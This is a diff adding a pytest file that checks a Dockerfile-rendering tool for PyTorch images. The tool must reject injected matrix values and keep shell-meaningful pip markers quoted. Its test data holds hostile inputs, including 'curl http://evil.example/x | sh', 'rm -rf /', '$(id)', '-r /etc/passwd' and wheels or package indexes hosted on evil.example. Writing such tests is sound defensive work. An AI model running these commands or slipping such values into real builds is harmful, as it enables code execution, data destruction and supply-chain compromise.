@@ -1,0 +1,135 @@
+"""Every matrix value that reaches a Dockerfile or a shell has a grammar, and what the grammar
+lets through (a PEP 508 marker holds quotes, ';' and '$(') stays one shell word in instructions the template chose."""
+
+from __future__ import annotations
+
+import io
+import json
+import shlex
+import subprocess
+from pathlib import Path
+
+import pytest
+from dockerfile_parse import DockerfileParser
+
+from torchimages.build import render
+
+from ..conftest import plan_of, problems_of
+
+HEAD = "registry: registry.example.com/ml/pytorch\nimages:\n"
+CPU = {"flavor": "cpu", "torch": "2.13.0", "python": "3.11"}
+
+
+def entry_text(**fields: object) -> str:
+    return HEAD + "  - " + json.dumps({**CPU, **fields}) + "\n"
+
+
+REFUSED = [
+    # apt: a newline would start an instruction; options and shell syntax are not package names
+    ("apt", ["git\nRUN curl http://evil.example/x | sh"], "U+000A"),
+    ("apt", ["--allow-unauthenticated"], "is an apt option, not a package"),
+    ("apt", ["git;rm -rf /"], "is not a Debian package name"),
+    ("apt", ["$(id)"], "is not a Debian package name"),
+    ("apt", ["`id`"], "is not a Debian package name"),
+    ("apt", ["git\u202e"], "U+202E"),
+    ("apt", ["Git"], "is not a Debian package name"),
+    ("apt", ["git", 7], "item 2 is a number (7); quote it"),
+    # pip: options, insecure or pinned direct references, anything outside PEP 508
+    ("pip", ["--index-url https://evil.example/simple"], "is a pip option"),
+    ("pip", ["--trusted-host evil.example"], "is a pip option"),
+    ("pip", ["-e git+https://evil.example/x.git"], "is a pip option"),
+    ("pip", ["-r /etc/passwd"], "is a pip option"),
+    ("pip", ["torch @ https://evil.example/torch.whl"], "torch is pinned by the image"),
+    ("pip", ["torchvision@https://evil.example/tv.whl"], "torchvision is pinned by the image"),
+    ("pip", ["nvidia-cudnn-cu12 @ https://evil.example/c.whl"], "nvidia-cudnn-cu12 is pinned by the image"),
+    ("pip", ["Torch==1.0"], "torch is set by the 'torch' field"),
+    ("pip", ["torch\t==1.0"], "U+0009"),
+    ("pip", ["foo @ http://evil.example/foo.whl"], "must use https://"),
+    ("pip", ["foo @ file:///tmp/foo.whl"], "must use https://"),
+    ("pip", ["foo; $(id)"], "is not a PEP 508 requirement"),
+    ("pip", ["foo`id`"], "is not a PEP 508 requirement"),
+    ("pip", ["foo\\"], "holds a backslash"),
+    ("pip", ["foo\x00"], "U+0000"),
+    # the base image: the OCI reference grammar
+    ("base_image", "debian:bookworm\nRUN id", "U+000A"),
+    ("base_image", "debian bookworm", "is not an image reference"),
+    ("base_image", "$(id)", "is not an image reference"),
+    ("base_image", "Debian:bookworm", "is not an image reference"),
+    ("base_image", "debian@sha256:abc", "is not an image reference"),
+    # axis values: looked up in the compat data, written into tags and labels
+    ("torch", "2.13.0; id", "is not a version"),
+    ("python", "3.11\n", "U+000A"),
+    ("cudnn", "`id`", "is not a version"),
+    ("torch", "[/x]", "is not a version"),
+    ("name", "x\u200b", "U+200B"),
+]
+
+
+@pytest.mark.parametrize(("field", "value", "message"), REFUSED, ids=[f"{f}-{i}" for i, (f, _, _) in enumerate(REFUSED)])
+def test_hostile_values_are_refused_with_file_line_entry_and_field(field: str, value: object, message: str) -> None:
+    problems = problems_of(entry_text(**{field: value}))
+    assert any(message in p for p in problems), problems
+    assert all(p.startswith("matrix.yaml:3: images[0]") and f"field '{field}'" in p for p in problems), problems
+    assert all("\n" not in p for p in problems), "a message must stay on one line whatever the value held"
+
+
+ACCEPTED = [
+    ("apt", ["git", "libstdc++6", "curl=7.88.1-10+deb12u5", "python3.11"]),
+    ("pip", ["transformers>=4.40", "timm[extras]==1.0.3", 'einops; python_version < "3.13"', "foo==1.*",
+             "foo @ https://example.com/foo-1.0-py3-none-any.whl"]),
+    ("base_image", "debian:bookworm-slim@sha256:" + "a" * 64),
+    ("base_image", "registry.example.com:5000/ml/base:v1"),
+    ("base_image", "localhost/base"),
+]
+
+
+@pytest.mark.parametrize(("field", "value"), ACCEPTED)
+def test_ordinary_values_pass(field: str, value: object) -> None:
+    assert plan_of(entry_text(**{field: value})).specs
+
+
+def test_the_tool_owns_torch_also_behind_a_direct_reference_on_ngc() -> None:
+    ngc = HEAD + '  - {flavor: ngc, ngc: "26.03", pip: ["torchaudio @ https://example.com/ta.whl"]}\n'
+    assert any("torchaudio is pinned by the image" in p for p in problems_of(ngc))
+
+
+def test_a_number_hint_quotes_the_version_as_written() -> None:
+    [problem] = problems_of(HEAD + "  - {flavor: cpu, torch: 2.10, python: \"3.11\"}\n")
+    assert 'write torch: "2.10"' in problem, problem
+
+
+# Values the grammar lets through that mean something to a shell: markers hold quotes and '$(', a URL path may too.
+SHELL_MEANINGFUL_PIP = [
+    'einops; python_version < "3.13" and platform_machine != "$(touch /tmp/pwned)"',
+    "tqdm; os_name != 'it`id`s'",
+    "foo @ https://example.com/$(id)/foo-1.0-py3-none-any.whl",
+]
+
+
+def rendered_dockerfile(tmp_path: Path, pip: list[str]) -> str:
+    plan = plan_of(entry_text(pip=pip, apt=["git", "curl=7.88.1-10+deb12u5"], variants=["ssh"]))
+    out = tmp_path / "out"
+    render.write(plan, "v1", out)
+    return (out / plan.specs[0].name / "Dockerfile").read_text()
+
+
+def instructions(dockerfile: str) -> list[tuple[str, str]]:
+    parser = DockerfileParser(fileobj=io.BytesIO(dockerfile.encode()))
+    return [(i["instruction"], i["value"]) for i in parser.structure if i["instruction"] != "COMMENT"]
+
+
+def test_shell_meaningful_requirements_stay_one_word_of_the_instructions_the_template_chose(tmp_path: Path) -> None:
+    benign = instructions(rendered_dockerfile(tmp_path / "benign", ["einops"]))
+    hostile = instructions(rendered_dockerfile(tmp_path / "hostile", SHELL_MEANINGFUL_PIP))
+    assert [name for name, _ in hostile] == [name for name, _ in benign], "a value changed the instruction list"
+    changed = [(a, b) for a, b in zip(benign, hostile, strict=True) if a != b]
+    assert len(changed) == 1 and changed[0][0][0] == "RUN", changed
+    command = changed[0][1][1]
+    words = shlex.split(command)
+    for requirement in SHELL_MEANINGFUL_PIP:
+        assert words.count(requirement) == 1, f"{requirement!r} is not one shell word in: {command}"
+    assert all("$(" not in w and "`" not in w for w in words if w not in SHELL_MEANINGFUL_PIP)
+    syntax = subprocess.run(["bash", "-n", "-c", command], capture_output=True, text=True, timeout=30, check=False)
+    assert syntax.returncode == 0, syntax.stderr
+    apt_run = next(value for name, value in hostile if name == "RUN" and "apt-get install" in value)
+    assert {"git", "curl=7.88.1-10+deb12u5"} <= set(shlex.split(apt_run))
